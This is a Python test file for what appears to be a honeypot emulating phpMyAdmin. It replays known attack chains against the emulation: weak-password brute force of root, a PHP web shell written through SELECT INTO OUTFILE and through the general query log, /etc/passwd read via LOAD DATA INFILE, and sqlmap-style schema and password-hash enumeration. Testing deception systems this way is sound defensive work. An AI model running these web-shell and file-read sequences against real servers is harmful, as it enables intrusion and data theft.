"""phpMyAdmin: conversations with it, and the sequences of public tools up to what they came for."""

from __future__ import annotations

import base64
import re
from html import escape
from urllib.parse import unquote, urlencode

import pytest

from mirage.base.events import LoginAttempted
from mirage.gateway.http.php.sql.functions import password_hash
from mirage.gateway.http.php.sql.lexer import statements
from mirage.gateway.http.sites.phpmyadmin.dump import KEPT
from mirage.gateway.http.sites.phpmyadmin.site import WEAK
from mirage.world import accounts
from mirage.world.host import Host
from tests.unit.gateway.http.sites.conftest import Answer, Machine, begin

BASE = "/phpmyadmin/index.php"
PAYLOAD = '<?php system($_GET["c"]); ?>'


@pytest.fixture
async def admin(host: Host) -> Machine:
    return begin(host, "phpmyadmin")


def _hidden(answer: Answer, name: str) -> str:
    found = re.search(rf'name="{name}" value="([^"]*)"', answer.body.decode())
    assert found is not None
    return found[1]


async def _try(admin: Machine, user: str, password: str) -> Answer:
    """As auxiliary/scanner/http/phpmyadmin_login does it: the form first, for its session and token."""
    door = await admin.ask("GET", "/phpmyadmin/")
    values = {
        "set_session": _hidden(door, "set_session"),
        "token": _hidden(door, "token"),
        "pma_username": user,
        "pma_password": password,
    }
    return await admin.ask("POST", BASE, urlencode({**values, "server": "1"}).encode())


async def _entered(admin: Machine) -> str:
    """Past the door; the token of the session."""
    for word in WEAK:
        if (await _try(admin, "root", word)).status == 302:
            return _hidden(await admin.ask("GET", f"{BASE}?route=/"), "token")
    raise AssertionError


async def _sql(admin: Machine, token: str, query: str, **more: str) -> Answer:
    body = urlencode({"sql_query": query, "token": token, "db": "", "table": "", "show_query": "1", **more}).encode()
    return await admin.ask("POST", f"{BASE}?route=/import", body)


def _cells(answer: Answer) -> list[str]:
    return re.findall(r"<td data-decimals[^>]*>([^<]*)</td>", answer.body.decode())


async def test_metasploit_s_phpmyadmin_login_finds_the_poor_password(admin: Machine) -> None:
    """auxiliary/scanner/http/phpmyadmin_login: 200 with the form again for a wrong one, a redirect and cookies for the right one."""
    wrong = await _try(admin, "root", "surely-not")
    assert (wrong.status, b"no root here" in wrong.body) == (200, True)
    assert "pmaAuth-1" not in admin.cookies
    await _entered(admin)
    assert {"phpMyAdmin", "pmaUser-1", "pmaAuth-1"} <= admin.cookies.keys()
    tried = [event for event in admin.events if isinstance(event, LoginAttempted)]
    assert (tried[0].accepted, tried[-1].accepted) == (False, True)


async def test_a_shell_is_written_by_into_outfile_and_runs(admin: Machine) -> None:
    """The second stage of phpMyAdmin getshell tools: datadir, then SELECT ... INTO OUTFILE into the document root, then ask for it."""
    token = await _entered(admin)
    assert _cells(await _sql(admin, token, "SELECT @@datadir, @@secure_file_priv")) == ["/var/lib/mysql/", "NULL"]
    written = await _sql(admin, token, f"SELECT '{PAYLOAD}' INTO OUTFILE '/var/www/html/x.php'")
    assert b"1 row affected." in written.body
    shell = await admin.ask("GET", "/x.php?c=id")
    assert (shell.status, shell.body) == (200, b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n")
    again = await _sql(admin, token, f"SELECT '{PAYLOAD}' INTO OUTFILE '/var/www/html/x.php'")
    assert b"#1086 - File &#039;/var/www/html/x.php&#039; already exists" in again.body
    denied = await _sql(admin, token, "SELECT 1 INTO OUTFILE '/etc/cron.d/x'")
    assert b"Can&#039;t create/write to file &#039;/etc/cron.d/x&#039; (Errcode: 13 &quot;Permission denied&quot;)" in denied.body


async def test_a_shell_is_written_by_the_general_log_and_runs(admin: Machine) -> None:
    """The other way of the same tools, where INTO OUTFILE is refused: the log of queries is moved into the document root."""
    token = await _entered(admin)
    await _sql(admin, token, "SET GLOBAL general_log_file='/var/www/html/log.php'; SET GLOBAL general_log='ON'")
    await _sql(admin, token, f"SELECT '{PAYLOAD}'")
    await _sql(admin, token, "SET GLOBAL general_log='OFF'")
    assert b"www-data\n" in (await admin.ask("GET", "/log.php?c=whoami")).body


async def test_phpmyadmin_lfi_rce_s_database_and_table_are_made_and_dropped(admin: Machine) -> None:
    """exploit/multi/http/phpmyadmin_lfi_rce as far as a 5.2 lets it: CREATE DATABASE, CREATE TABLE, SHOW VARIABLES, DROP DATABASE."""
    token = await _entered(admin)
    for query in ("CREATE DATABASE abcde;", "CREATE TABLE abcde.fghij(klmno varchar(4096) DEFAULT '<?php ?>');"):
        assert (await _sql(admin, token, query)).status == 200
    assert "abcde" in _cells(await _sql(admin, token, "SHOW DATABASES"))
    assert _cells(await _sql(admin, token, "SHOW VARIABLES LIKE 'datadir'")) == ["datadir", "/var/lib/mysql/"]
    await _sql(admin, token, "DROP DATABASE abcde")
    assert "abcde" not in _cells(await _sql(admin, token, "SHOW DATABASES"))


async def test_the_company_s_rows_are_read_changed_and_read_again(admin: Machine) -> None:
    token = await _entered(admin)
    name = admin.host.story.company.project.database
    users = _cells(await _sql(admin, token, f"SELECT name FROM {name}.users"))
    assert "admin" in users
    await _sql(admin, token, f"UPDATE {name}.users SET password='mine' WHERE name='admin'")
    assert _cells(await _sql(admin, token, f"SELECT password FROM {name}.users WHERE name='admin'")) == ["mine"]


async def test_the_company_s_tables_are_joined_and_counted(admin: Machine) -> None:
    token = await _entered(admin)
    name = admin.host.story.company.project.database
    counted = "SELECT u.active, COUNT(*) FROM users u LEFT JOIN sessions s ON s.user_id = u.id WHERE s.id IS NULL GROUP BY u.active"
    users = _cells(await _sql(admin, token, f"USE {name}; {counted} ORDER BY 1 DESC"))
    assert users[0] == "1"
    assert int(users[1]) > 1


async def test_what_sqlmap_asks_of_the_server_s_own_tables(admin: Machine) -> None:
    token = await _entered(admin)
    name = admin.host.story.company.project.database
    asked = f"SELECT column_name,column_type FROM INFORMATION_SCHEMA.COLUMNS WHERE table_name=0x7573657273 AND table_schema=0x{name.encode().hex()}"
    assert _cells(await _sql(admin, token, asked))[:4] == ["id", "int(11)", "name", "varchar(60)"]
    assert "&#039;root&#039;@&#039;localhost&#039;" in _cells(
        await _sql(admin, token, "SELECT DISTINCT(grantee) FROM INFORMATION_SCHEMA.USER_PRIVILEGES")
    )


async def test_a_table_of_one_s_own_is_changed_and_its_changes_stand(admin: Machine) -> None:
    token = await _entered(admin)
    made = "CREATE DATABASE own; USE own; CREATE TABLE notes (id int auto_increment primary key, words varchar(40) not null, n decimal(6,2))"
    await _sql(admin, token, f"{made}; INSERT INTO notes (words, n) VALUES ('one', 1), ('two', 2.5)")
    assert _cells(await _sql(admin, token, "DESCRIBE own.notes"))[:6] == ["id", "int(11)", "NO", "PRI", "NULL", "auto_increment"]
    await _sql(admin, token, "UPDATE own.notes SET words = UPPER(words) WHERE n > 1; DELETE FROM own.notes WHERE id = 1")
    assert _cells(await _sql(admin, token, "SELECT * FROM own.notes")) == ["2", "TWO", "2.50"]
    await _sql(
        admin,
        token,
        "ALTER TABLE own.notes ADD COLUMN more int, CHANGE words text varchar(10), DROP n; INSERT INTO own.notes VALUES (9, 'x', 3)",
    )
    assert _cells(await _sql(admin, token, "SELECT * FROM own.notes")) == ["2", "TWO", "NULL", "9", "x", "3"]
    assert "`text` varchar(10)" in _cells(await _sql(admin, token, "SHOW CREATE TABLE own.notes"))[1]
    await _sql(
        admin, token, "RENAME TABLE own.notes TO own.papers; TRUNCATE own.papers; CREATE TABLE own.copy AS SELECT 1 AS a, 'b' AS b"
    )
    assert _cells(await _sql(admin, token, "SHOW TABLES FROM own")) == ["copy", "papers"]
    assert not _cells(await _sql(admin, token, "SELECT * FROM own.papers"))


async def test_a_table_of_the_company_s_that_is_altered_keeps_its_rows(admin: Machine) -> None:
    token = await _entered(admin)
    name = admin.host.story.company.project.database
    before = _cells(await _sql(admin, token, f"SELECT COUNT(*) FROM {name}.users"))
    await _sql(admin, token, f"ALTER TABLE {name}.users ADD backdoor varchar(20); UPDATE {name}.users SET backdoor = 'x'")
    assert _cells(await _sql(admin, token, f"SELECT COUNT(*) FROM {name}.users WHERE backdoor = 'x'")) == before


async def test_a_shell_is_written_by_the_ends_of_lines_as_sqlmap_does_it(admin: Machine) -> None:
    token = await _entered(admin)
    name = admin.host.story.company.project.database
    code = b"<?php echo 'hello ' . (6 * 7);"
    asked = f"SELECT 1 FROM {name}.users LIMIT 0,1 INTO OUTFILE '/tmp/tmpx.php' LINES TERMINATED BY 0x{code.hex()}"
    await _sql(admin, token, asked)
    assert _cells(await _sql(admin, token, "SELECT LOAD_FILE('/tmp/tmpx.php')")) == [
        escape(f"1{code.decode()}").replace("&#x27;", "&#039;")
    ]


async def test_a_message_for_the_page_s_script_is_json(admin: Machine) -> None:
    token = await _entered(admin)
    answer = await _sql(admin, token, "SELECT 0x3c62 AS x, NULL", ajax_request="true")
    assert answer.json["success"] is True
    assert "&lt;b</td>" in answer.json["message"]
    fault = await _sql(admin, token, "SELECT a FROM nothing.b", ajax_request="true")
    assert fault.json == {"success": False, "error": "<code>#1146 - Table &#039;nothing.b&#039; doesn&#039;t exist</code>"}


async def test_a_page_s_script_learns_how_wide_the_navigation_is_and_how_the_console_looks(admin: Machine) -> None:
    token = await _entered(admin)
    for key, value in (("NavigationWidth", 240), ("Nothing", None)):
        form = urlencode({"ajax_request": "true", "server": "1", "token": token, "key": key}).encode()
        answer = await admin.ask("POST", "/phpmyadmin/index.php?route=/config/get", form)
        assert (answer.status, answer.json) == (200, {"success": True, "value": value})
    form = urlencode({"ajax_request": "true", "token": token, "key": "Console"}).encode()
    console = (await admin.ask("POST", "/phpmyadmin/index.php?route=/config/get", form)).json["value"]
    assert (console["AlwaysExpand"], console["Mode"], console["Height"]) == (False, "info", 92)
    form = urlencode({"ajax_request": "true", "token": "0" * 32, "key": "NavigationWidth"}).encode()
    assert (await admin.ask("POST", "/phpmyadmin/index.php?route=/config/get", form)).json["success"] is False


async def test_without_the_session_s_token_nothing_is_asked(admin: Machine) -> None:
    await _entered(admin)
    assert not _cells(await _sql(admin, "0" * 32, "SELECT 1"))


async def test_a_cookie_of_somebody_s_own_making_opens_nothing(admin: Machine) -> None:
    admin.cookies["pmaAuth-1"] = "726f6f747c31" + "0" * 64
    assert b"pma_username" in (await admin.ask("GET", f"{BASE}?route=/")).body


async def test_the_forgotten_note_opens_ssh(admin: Machine) -> None:
    note = (await admin.ask("GET", "/export/.env")).body.decode()
    user, password = re.findall(r"SFTP_(?:USER|PASSWORD)=(\S+)", note)
    assert accounts.verify(admin.host.view(admin.layer), user, password.encode()) is True


def test_statements_are_cut_at_semicolons_outside_of_quotes() -> None:
    assert list(statements('SELECT \';\'; SELECT "a\\";" ;; SELECT `;`')) == ["SELECT ';'", 'SELECT "a\\";"', "SELECT `;`"]


async def test_the_accounts_hashes_are_those_of_the_passwords(admin: Machine) -> None:
    """What is cracked of mysql.user is what opens."""
    token = await _entered(admin)
    cells = _cells(await _sql(admin, token, "SELECT user, password FROM mysql.user"))
    assert "root" in cells
    assert password_hash("password") == "*2470C0C06DEE42FD1618BB99005ADCA2EC9D1E19"
    assert any(password_hash(word) in cells for word in WEAK)


async def test_a_nested_function_is_worked_out_once(admin: Machine) -> None:
    token = await _entered(admin)
    nested = "concat(" * 30 + "'a'" + ")" * 30
    assert _cells(await _sql(admin, token, f"SELECT {nested}")) == ["a"]


async def test_export_gives_the_company_s_tables_as_sql(admin: Machine) -> None:
    token = await _entered(admin)
    named = {"export_type": "server", "what": "sql", "quick_or_custom": "quick", "asfile": "sendit"}
    answer = await admin.ask("POST", f"{BASE}?route=/export", urlencode({**named, "token": token}).encode())
    assert (answer.status, answer.field("Content-Type")) == (200, "text/x-sql;charset=utf-8")
    assert answer.field("Content-Disposition") == 'attachment; filename="localhost.sql"'
    text = answer.body.decode()
    assert (
        text.startswith("-- phpMyAdmin SQL Dump\n-- version 5.2.1deb1+deb12u1\n")
        and "CREATE TABLE `users` (\n  `id` int(11) NOT NULL" in text
    )
    assert text.endswith("COMMIT;\n\n" + "".join(f"/*!40101 SET {name}=@OLD_{name} */;\n" for name in KEPT))
    assert (await admin.ask("POST", f"{BASE}?route=/export", urlencode(named).encode())).field(
        "Content-Type"
    ) != "text/x-sql;charset=utf-8"


async def test_an_exported_table_is_written_as_the_real_one_writes_it(admin: Machine) -> None:
    """As phpMyAdmin 5.2.1 of Debian 12 did, asked for the same table."""
    token = await _entered(admin)
    await _sql(admin, token, "CREATE DATABASE shop")
    await _sql(admin, token, "CREATE TABLE shop.bills (id INT AUTO_INCREMENT PRIMARY KEY, total DECIMAL(10,2), note TEXT)")
    await _sql(admin, token, r"INSERT INTO shop.bills (total, note) VALUES (528.2, 'a\'b\\c'), (10, NULL)")
    form = {"export_type": "table", "db": "shop", "table": "bills", "token": token}
    text = (await admin.ask("POST", f"{BASE}?route=/export", urlencode(form).encode())).body.decode()
    assert text[text.index("CREATE TABLE") : text.index("COMMIT;")] == (
        "CREATE TABLE `bills` (\n  `id` int(11) NOT NULL,\n  `total` decimal(10,2) DEFAULT NULL,\n  `note` text DEFAULT NULL\n"
        ") ENGINE=InnoDB DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_general_ci;\n\n--\n-- Dumping data for table `bills`\n--\n\n"
        "INSERT INTO `bills` (`id`, `total`, `note`) VALUES\n(1, 528.20, 'a\\'b\\\\c'),\n(2, 10.00, NULL);\n\n"
        "--\n-- Indexes for dumped tables\n--\n\n--\n-- Indexes for table `bills`\n--\n"
        "ALTER TABLE `bills`\n  ADD PRIMARY KEY (`id`);\n\n--\n-- AUTO_INCREMENT for dumped tables\n--\n\n"
        "--\n-- AUTO_INCREMENT for table `bills`\n--\nALTER TABLE `bills`\n  MODIFY `id` int(11) NOT NULL AUTO_INCREMENT, AUTO_INCREMENT=3;\n"
    )


async def test_a_route_that_is_none_is_named(admin: Machine) -> None:
    await _entered(admin)
    answer = await admin.ask("GET", f"{BASE}?route=/no/such")
    assert answer.status == 404
    assert (b"/no/such" in answer.body, b"nowhere" in answer.body) == (True, False)


async def test_a_file_of_the_machine_is_loaded_into_a_table_and_read(admin: Machine) -> None:
    """LOAD DATA INFILE, as tools read files where LOAD_FILE is watched; a client's own file PHP does not send."""
    token = await _entered(admin)
    await _sql(admin, token, "CREATE DATABASE test")
    await _sql(admin, token, "CREATE TABLE test.loot (line TEXT)")
    loaded = await _sql(admin, token, "LOAD DATA INFILE '/etc/passwd' INTO TABLE test.loot")
    count = len(admin.read("/etc/passwd").splitlines())
    assert f"{count} rows affected".encode() in loaded.body
    assert _cells(await _sql(admin, token, "SELECT line FROM test.loot"))[0] == "root:x:0:0:root:/root:/bin/bash"
    local = await _sql(admin, token, "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE test.loot")
    assert b"#2068 - LOAD DATA LOCAL INFILE is forbidden, check related settings like mysqli.allow_local_infile" in local.body
    nowhere = await _sql(admin, token, "SELECT 'x' INTO OUTFILE '/nosuch/x'")
    assert b"#1290 - The MariaDB server is running with the --secure-file-priv option" in nowhere.body


async def test_cookies_show_nobody_s_name(admin: Machine) -> None:
    """libsodium's secretbox: 24 bytes of nonce, 16 of a seal, and as many as the text has."""
    await _entered(admin)
    sealed = {name: base64.b64decode(unquote(admin.cookies[name])) for name in ("pmaUser-1", "pmaAuth-1")}
    assert (len(sealed["pmaUser-1"]), len(sealed["pmaAuth-1"])) == (44, 40 + len('{"password":"root"}'))
    assert all(b"root" not in value for value in sealed.values())


async def test_a_page_shows_no_name_of_the_recorder_s_in_base64_either(admin: Machine) -> None:
    token = await _entered(admin)
    pages = [
        await admin.ask("GET", f"{BASE}?route=/"),
        *[await _sql(admin, token, text) for text in ("SELECT 1", "SET GLOBAL general_log=1")],
    ]
    words = [base64.b64encode(word.encode())[:12] for word in ("recordeddata", "recordednew", "recordedthings")]
    assert not [word for word in [b"recorded", *words] for page in pages if word in page.body]


async def test_a_message_without_the_token_is_a_mismatch(admin: Machine) -> None:
    await _entered(admin)
    answer = await _sql(admin, "0" * 32, "SELECT 1", ajax_request="true")
    assert (answer.json["success"], "Error: Token mismatch" in answer.json["error"]) == (False, True)


async def test_the_page_of_a_table_s_structure_shows_its_columns_and_keys(admin: Machine) -> None:
    await _entered(admin)
    name = admin.host.story.company.project.database
    page = (await admin.ask("GET", f"{BASE}?route=/table/structure&db={name}&table=users")).body.decode()
    rows = re.findall(r"<tr><td>.*?</tr>", page)
    assert [re.findall(r'<td class="text-nowrap">(.*?)</td>', row) for row in rows] == [
        ["int(11)", "", " ", "No", "<em>None</em>", "", "AUTO_INCREMENT"],
        ["varchar(60)", "<dfn>utf8mb4_general_ci</dfn>", " ", "No", "<em>None</em>", "", ""],
        ["varchar(255)", "<dfn>utf8mb4_general_ci</dfn>", " ", "No", "<em>None</em>", "", ""],
        ["tinyint(4)", "", " ", "No", "1", "", ""],
        ["datetime", "", " ", "Yes", "<em>NULL</em>", "", ""],
    ]
    primary, index = '<img title="Primary" class="icon ic_b_primary">', '<img title="Index" class="icon ic_bd_primary">'
    assert re.findall(r"<label[^>]*>(.*?)</label>", page) == [f"id{primary}", f"name{index}", "password", "active", "last_login"]
    off = [re.findall(r'<li class="(\w+)[^>]*><span', row) for row in rows]
    assert off == [["primary", "fulltext"], ["add_unique"], [], ["fulltext"], ["fulltext"]]
    keys = [re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", row) for row in re.findall(r'<tr class="noclick">.*?</tr>', page, re.DOTALL)]
    count = len(admin.host.story.company.staff) + 1
    assert [[*key[:6], int(key[6]) <= count, *key[7:]] for key in keys] == [
        [
            "index=PRIMARY",
            "DROP PRIMARY KEY DROP+PRIMARY+KEY The+primary+key+has+gone",
            "PRIMARY",
            "BTREE",
            "Yes",
            "id",
            True,
            "A",
            "No",
            "",
        ],
        [
            "index=name",
            "DROP INDEX `name` DROP+INDEX+%60name%60 Index+name+has+gone",
            "name",
            "BTREE",
            "Yes",
            "name",
            True,
            "A",
            "No",
            "",
        ],
    ]
    assert re.findall(r"<option[^>]*>(.*?)</option>", page) == [
        f"after {one}" for one in ("id", "name", "password", "active", "last_login")
    ]


async def test_the_page_of_a_table_without_a_primary_key_drops_none(admin: Machine) -> None:
    token = await _entered(admin)
    await _sql(
        admin, token, "CREATE DATABASE own; CREATE TABLE own.t (a int unsigned unique, b varchar(9) default 'x', key two (a, b))"
    )
    page = (await admin.ask("GET", f"{BASE}?route=/table/structure&db=own&table=t")).body.decode()
    rows = re.findall(r"<tr><td>.*?</tr>", page)
    assert [re.findall(r'<td class="text-nowrap">(.*?)</td>', row) for row in rows] == [
        ["int(10)", "", "UNSIGNED", "Yes", "<em>NULL</em>", "", ""],
        ["varchar(9)", "<dfn>utf8mb4_general_ci</dfn>", " ", "Yes", "&#039;x&#039;", "", ""],
    ]
    assert ("DROP+PRIMARY" in page, "ADD+PRIMARY+KEY%28%60a" in page) == (False, True)
    spans = re.findall(r'<th rowspan="(\d)">(\w+)<', page)
    assert spans == [("1", "a"), ("2", "two")]
